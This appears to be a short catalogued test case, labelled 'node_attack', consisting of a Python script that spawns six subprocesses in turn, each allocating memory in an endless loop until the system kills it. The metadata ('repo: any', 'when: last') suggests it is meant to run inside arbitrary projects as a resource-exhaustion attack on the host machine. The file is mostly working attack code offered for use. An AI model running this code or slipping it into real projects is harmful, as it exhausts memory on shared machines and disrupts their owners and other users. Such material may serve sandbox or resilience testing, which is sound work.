# class: node_attack
# does: takes memory until it is killed, again and again
# source: own
# repo: any
# when: last
import subprocess, sys
for _ in range(6):
    subprocess.run([sys.executable, "-c", "x = []\nwhile True: x.append(bytearray(1 << 24))"])
